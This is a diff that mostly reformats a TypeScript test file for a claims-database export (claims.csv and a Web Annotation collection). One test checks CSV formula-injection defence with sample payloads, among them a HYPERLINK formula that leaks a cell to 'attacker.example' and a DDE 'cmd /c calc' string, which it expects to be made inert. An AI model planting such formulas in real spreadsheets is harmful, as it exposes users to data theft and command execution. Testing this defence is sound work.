@@ -24,56 +24,117 @@ describe('claims.csv', () => {
     const reuters = rows.find((row) => row.attribution_ids === 'scmp < reuters < diplomatic-sources')!;
     expect(reuters.attribution).toBe('South China Morning Post, citing Reuters, citing Diplomatic sources');
     const million = graph.claims.find((claim) => claim.quantity?.min === 1_000_000 && claim.quantity.max === null)!;
-    expect(rows.find((row) => row.id === million.id)).toMatchObject({ quantity_min: '1000000', quantity_max: '', source_start: String(million.anchor.start) });
+    expect(rows.find((row) => row.id === million.id)).toMatchObject({
+      quantity_min: '1000000',
+      quantity_max: '',
+      source_start: String(million.anchor.start),
+    });
   });
 
   it('gives each claim its statement, claimant, stance, hedges and the day it was claimed', () => {
     for (const [index, claim] of graph.claims.entries()) {
       const row = rows[index]!;
-      expect(row).toMatchObject({ statement: claim.statement, stance: claim.stance, claimant: claim.claimant ?? '', claimed_at: claim.claimedAt ?? '' });
+      expect(row).toMatchObject({
+        statement: claim.statement,
+        stance: claim.stance,
+        claimant: claim.claimant ?? '',
+        claimed_at: claim.claimedAt ?? '',
+      });
       expect(row.hedges!.split(' ').filter(Boolean)).toEqual(claim.hedges);
     }
   });
 
   it('gives a claim whose claimant and date are unknown empty cells, and several hedges space-separated', () => {
     const [first] = graph.claims;
-    const unknown = { ...first!, claimant: null, stance: 'reports-allegation' as const, attribution: [first!.attribution[0]!], hedges: ['more-than' as const, 'alleged' as const], claimedAt: null, claimedAtFrom: null };
+    const unknown = {
+      ...first!,
+      claimant: null,
+      stance: 'reports-allegation' as const,
+      attribution: [first!.attribution[0]!],
+      hedges: ['more-than' as const, 'alleged' as const],
+      claimedAt: null,
+      claimedAtFrom: null,
+    };
     const [row]: Record<string, string>[] = parse(claimsCsv({ ...graph, claims: [unknown] }), { columns: true });
-    expect(row).toMatchObject({ claimant: '', stance: 'reports-allegation', hedges: 'more-than alleged', claimed_at: '' });
+    expect(row).toMatchObject({
+      claimant: '',
+      stance: 'reports-allegation',
+      hedges: 'more-than alleged',
+      claimed_at: '',
+    });
   });
 
   it('says whether each quantity bound is exclusive and gives the N of "about N"; nothing for a claim with no quantity', () => {
     const counted = { unit: 'people', counted: 'people detained' };
     const quantities: [Quantity | null, Record<string, string>][] = [
-      [{ min: 1_000_000, max: null, minExclusive: true, maxExclusive: false, about: null, ...counted }, { quantity_min: '1000000', quantity_min_exclusive: 'true', quantity_max: '', quantity_max_exclusive: 'false', quantity_about: '' }],
-      [{ min: 36_000, max: 44_000, minExclusive: false, maxExclusive: false, about: 40_000, ...counted }, { quantity_min: '36000', quantity_max: '44000', quantity_min_exclusive: 'false', quantity_about: '40000' }],
+      [
+        { min: 1_000_000, max: null, minExclusive: true, maxExclusive: false, about: null, ...counted },
+        {
+          quantity_min: '1000000',
+          quantity_min_exclusive: 'true',
+          quantity_max: '',
+          quantity_max_exclusive: 'false',
+          quantity_about: '',
+        },
+      ],
+      [
+        { min: 36_000, max: 44_000, minExclusive: false, maxExclusive: false, about: 40_000, ...counted },
+        { quantity_min: '36000', quantity_max: '44000', quantity_min_exclusive: 'false', quantity_about: '40000' },
+      ],
       [null, { quantity_min: '', quantity_min_exclusive: '', quantity_max_exclusive: '', quantity_about: '' }],
     ];
-    const variant: ClaimGraph = { ...graph, claims: quantities.map(([quantity], index) => ({ ...graph.claims[index]!, quantity })) };
+    const variant: ClaimGraph = {
+      ...graph,
+      claims: quantities.map(([quantity], index) => ({ ...graph.claims[index]!, quantity })),
+    };
     const read: Record<string, string>[] = parse(claimsCsv(variant), { columns: true });
     for (const [index, [, expected]] of quantities.entries()) expect(read[index]).toMatchObject(expected);
   });
 
   it('makes a text cell that a spreadsheet would run as a formula inert with a leading quote (OWASP), and leaves numbers as they are', () => {
     const [first] = graph.claims;
-    const formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
+    const formulas = [
+      '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tcmd',
+      '\rcmd',
+    ];
     const claims = formulas.map((text, index) => ({
       ...first!,
       id: `fx${index}abc`,
       text,
       statement: text,
-      quantity: { min: -5, max: null, minExclusive: false, maxExclusive: false, about: null, unit: 'people', counted: text },
+      quantity: {
+        min: -5,
+        max: null,
+        minExclusive: false,
+        maxExclusive: false,
+        about: null,
+        unit: 'people',
+        counted: text,
+      },
     }));
-    const sources = graph.sources.map((source) => (source.id === first!.attribution[0] ? { ...source, name: '=cmd|"/c calc"!A1' } : source));
+    const sources = graph.sources.map((source) =>
+      source.id === first!.attribution[0] ? { ...source, name: '=cmd|"/c calc"!A1' } : source,
+    );
     const read: Record<string, string>[] = parse(claimsCsv({ ...graph, claims, sources }), { columns: true });
     for (const [index, text] of formulas.entries()) {
-      expect(read[index]).toMatchObject({ text: `'${text}`, statement: `'${text}`, quantity_counted: `'${text}`, quantity_min: '-5' });
+      expect(read[index]).toMatchObject({
+        text: `'${text}`,
+        statement: `'${text}`,
+        quantity_counted: `'${text}`,
+        quantity_min: '-5',
+      });
       expect(read[index]!.attribution).toMatch(/^'=cmd\|"\/c calc"!A1/);
     }
   });
 
   it('gives each claim its current verdict and the day of it, and nothing for an unrated claim', () => {
-    const fixture: Record<string, string>[] = parse(claimsCsv(loadCorpusOrThrow('tests/fixtures/minimal-corpus')), { columns: true });
+    const fixture: Record<string, string>[] = parse(claimsCsv(loadCorpusOrThrow('tests/fixtures/minimal-corpus')), {
+      columns: true,
+    });
     expect(fixture[0]).toMatchObject({ id: 'tw22ab', verdict: 'true', verdict_date: '2026-11-20' });
     expect(rows.every((row) => row.verdict === '' && row.verdict_date === '')).toBe(true);
   });
@@ -86,7 +147,11 @@ describe('annotations.jsonld', () => {
   const ni = (bytes: Buffer | string) => `ni:///sha-256;${createHash('sha256').update(bytes).digest('base64url')}`;
 
   it('is a Web Annotation collection with one annotation per claim, linking to the claim page', () => {
-    expect(collection).toMatchObject({ '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'AnnotationCollection', total: graph.claims.length });
+    expect(collection).toMatchObject({
+      '@context': 'http://www.w3.org/ns/anno.jsonld',
+      type: 'AnnotationCollection',
+      total: graph.claims.length,
+    });
     expect(collection.first.items.map((item) => item.body[1])).toEqual(
       hosted.graph.claims.map((claim) => ({
         type: 'SpecificResource',
